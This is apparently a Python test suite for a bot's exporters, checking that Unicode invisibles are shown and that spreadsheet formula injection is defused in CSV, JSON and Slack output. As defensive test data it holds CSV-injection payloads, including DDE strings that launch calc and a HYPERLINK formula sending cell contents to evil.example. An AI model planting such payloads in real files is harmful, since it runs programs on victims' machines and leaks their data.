"""Strangers' text over all of Unicode: in a terminal, in Slack, in CSV and in JSON it only shows."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from typing import TYPE_CHECKING, Final

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from bot.answers.export import to_csv, to_json
from bot.table import Column, Table
from bot.table import text as cell
from bot.text import literal, only_shows
from handlers.blockkit import blocks

if TYPE_CHECKING:
    from collections.abc import Iterator

SEPARATORS: Final = ",;\t|"
"""What spreadsheets split lines at, by the country they are in."""

ALL: Final = [chr(code) for code in range(0x110000)]

SIGNS: Final = [
    each for each in ALL if each == "−" or unicodedata.normalize("NFKC", each)[:1] in tuple("=+-@")
]
"""What begins a formula, or looks like it."""

INVISIBLE: Final = [
    each
    for each in ALL
    if unicodedata.category(each) in {"Cc", "Cf", "Cs", "Zl", "Zp"}
    or (unicodedata.category(each) == "Zs" and each != " ")
    or "VARIATION SELECTOR" in unicodedata.name(each, "")
    or re.fullmatch("(HALFWIDTH )?HANGUL .*FILLER", unicodedata.name(each, ""))
]
"""What acts, hides, or looks like a space: all of Cf, tags, soft hyphens, selectors and fillers too."""

strange = st.text() | st.text(
    "ab=+-@＝＋－＠ ,;|\t\n\r\"'\u00a0\u00ad\u180e\u2028\u202e\u3000\ufe0f\U000e0041", max_size=12
)


def csv_of(*cells: str) -> str:
    file = io.StringIO()
    columns = (Column("agent", "TEXT"), Column("calls", "INTEGER"))
    to_csv(Table(columns, [[(cell, 1) for cell in cells]]), file)
    return file.getvalue()


def json_of(*cells: str) -> str:
    file = io.StringIO()
    to_json(Table((Column("agent", "TEXT"),), [[(cell,) for cell in cells]]), file)
    return file.getvalue()


def cells_of(file: str) -> Iterator[str]:
    """Every cell that any spreadsheet may see: as the file quotes them, and split regardless of quotes."""
    for separator in SEPARATORS:
        for row in csv.reader(io.StringIO(file), delimiter=separator):
            yield from row
        for line in file.splitlines():
            yield from line.split(separator)


def runs(cell: str) -> bool:
    """Whether a spreadsheet may run a cell; quotes and blanks of any kind before it are not looked at."""
    begins = re.sub(r'^[\s"\u00ad\u200b-\u200f\ufeff]+', "", cell)[:1]
    return begins in SIGNS if begins else False


# --- all of Unicode


def test_all_that_acts_hides_or_looks_like_a_space_is_shown_by_its_number() -> None:
    shown = {each: literal(f"a{each}b") for each in INVISIBLE}

    assert len(INVISIBLE) > 2_500  # 2,048 halves, 256 selectors, 161 formats and more
    assert [each for each, words in shown.items() if not words.isascii()] == []
    assert len(set(shown.values())) == len(INVISIBLE), "and no two of them look the same"


UNSEEN: Final = {
    "soft hyphen": "\u00ad",
    "Mongolian vowel separator": "\u180e",
    "tag": "\U000e0041",
    "zero width space": "\u200b",
    "zero width joiner": "\u200d",
    "word joiner": "\u2060",
    "byte order mark": "\ufeff",
    "left-to-right mark": "\u200e",
    "Arabic letter mark": "\u061c",
    "override": "\u202e",
    "isolate": "\u2066",
    "Hangul filler": "\u3164",
    "Hangul filler of half width": "\uffa0",
    "combining grapheme joiner": "\u034f",
    "variation selector": "\ufe0f",
    "variation selector supplement": "\U000e0100",
    "Khmer inherent vowel": "\u17b4",
    "Braille blank": "\u2800",
    "null notehead": "\U0001d159",
    "shorthand format": "\U0001bca0",
    "NUL": "\x00",
    "escape": "\x1b",
    "delete": "\x7f",
    "half a pair": "\udc41",
    "private use": "\ue000",
    "unassigned": "\U000e0fff",
}
"""What the eye does not see, or not everywhere."""


@pytest.mark.parametrize("what", UNSEEN)
def test_two_clients_that_differ_by_what_nobody_sees_look_different(what: str) -> None:
    plain = "Boto/2.49.0 Python/2.7"
    worn = [f"{plain[:at]}{UNSEEN[what]}{plain[at:]}" for at in (0, 4, len(plain))]

    def seen(text: str) -> str:
        return text.replace(UNSEEN[what], "")

    for other in worn:
        assert seen(other) == plain
        assert seen(cell(other)) != cell(plain)
        assert seen(csv_of(other)) != csv_of(plain)
        assert seen(blocks.fallback(other)) != blocks.fallback(plain)
        assert seen(blocks.text(other)["text"]) != blocks.text(plain)["text"]
    assert len({cell(other) for other in worn}) == len(worn)


def test_what_only_shows_is_shown_as_it_is() -> None:
    for text in ("Boto3/1.28 é 你好 العربية 🙂 ⚠️", "arn:aws:iam::111122223333:user/a\\b", "— …"):
        assert literal(text) == text


def test_the_selector_of_an_emoji_stays_and_is_seen_everywhere_else() -> None:
    assert literal("⚠️ a\ufe0f") == "⚠️ a\\ufe0f"


@given(strange)
def test_what_is_shown_in_a_terminal_stays_on_its_line_and_acts_no_more(text: str) -> None:
    assert only_shows(literal(text))
    assert len(literal(text).splitlines()) <= 1


@given(strange)
@example("<!channel> <@U1> &amp; <http://x|y>\u202e")
def test_what_slack_is_sent_neither_names_anyone_nor_acts(text: str) -> None:
    assert not set(blocks.fallback(text)) & set("<>")
    assert only_shows(blocks.fallback(text))
    for made in (blocks.text(text), blocks.text(text, code=True), *blocks.prose(text)):
        assert made["type"] == "text"
        assert only_shows(made["text"])


# --- CSV


@pytest.mark.parametrize(
    "before",
    ["", " ", "\u00a0", "\u3000", "\u00ad", "\t", "\r\n", "x;", "x|", "x,", "x\t", '"', 'x;"', "x; "],
)
def test_no_sign_of_any_alphabet_begins_a_formula_wherever_a_line_is_split(before: str) -> None:
    # what is split by hand may leave a quote of the file's before the cell
    file = csv_of(*(f"{before}{sign}cmd|'/C calc'!A0;y" for sign in SIGNS)).partition("\n")[2]

    assert [cell for cell in cells_of(file) if runs(cell)] == []
    assert len(SIGNS) >= 19


RUNS: Final = {
    "behind a semicolon": "x;=cmd|'/C calc'!A0;y",
    "an equals sign": "=1+1",
    "a plus": "+1+1",
    "a minus": "-1+1",
    "an at sign": "@SUM(A1)",
    "a program, by DDE": '=DDE("cmd";"/C calc";"x")',
    "a link that carries cells away": '=HYPERLINK("http://evil.example/?"&A1,"AWS")',
    "in full width": "＝1+1",
    "a plus in full width": "＋1+1",
    "an at sign in full width": "＠SUM(A1)",
    "in small form": "\ufe661+1",
    "raised": "\u207c1+1",
    "the minus sign": "−1+1",
    "Hebrew's plus": "\ufb291+1",
    "behind a no-break space": "\u00a0=1+1",
    "behind a soft hyphen": "\u00ad=1+1",
    "behind an ideographic space": "\u3000=1+1",
    "behind a byte order mark": "\ufeff=1+1",
    "behind blanks": "   =1+1",
    "behind a tab": "x\t=1+1",
    "behind a line end": "x\n=1+1",
    "behind a line separator": "x\u2028=1+1",
    "behind a pipe": "x|=1+1",
    "behind a comma and blanks": "x,  =1+1",
    "behind a quote that closes": 'x";=1+1;"y',
    "within quotes of its own": 'x;"=1+1"',
}
"""Cells that some spreadsheet runs, as the file would hold them without a defence."""


@pytest.mark.parametrize("how", RUNS)
def test_a_cell_that_was_written_to_run_does_not(how: str) -> None:
    bare = io.StringIO()
    csv.writer(bare, lineterminator="\n").writerow([RUNS[how], 1])
    assert [cell for cell in cells_of(bare.getvalue()) if runs(cell)], "it would"

    file = csv_of(RUNS[how]).partition("\n")[2]

    assert [cell for cell in cells_of(file) if runs(cell)] == []
    assert file.count("\n") == 1


@given(st.lists(strange, min_size=1, max_size=5))
@example(["x;=cmd|'/C calc'!A0;y"])
@example(['x;"=1+1"'])
def test_no_cell_of_anyones_runs_wherever_a_line_is_split(cells: list[str]) -> None:
    file = csv_of(*cells).partition("\n")[2]

    assert [cell for cell in cells_of(file) if runs(cell)] == []
    assert only_shows(file.replace("\n", ""))
    assert file.count("\n") == len(cells)


@given(strange)
def test_but_for_the_apostrophes_a_file_says_what_is_shown(text: str) -> None:
    (row,) = csv.reader(io.StringIO(csv_of(text).partition("\n")[2]))

    assert row[0].replace("'", "") == literal(text).replace("'", "")


# --- JSON


@given(st.lists(strange, min_size=1, max_size=5))
@example(["\U000e0041"])
def test_json_reads_back_as_it_was_and_holds_nothing_that_acts(cells: list[str]) -> None:
    file = json_of(*cells)

    assert only_shows(file.replace("\n", ""))
    assert [row["agent"] for row in json.loads(file)] == cells
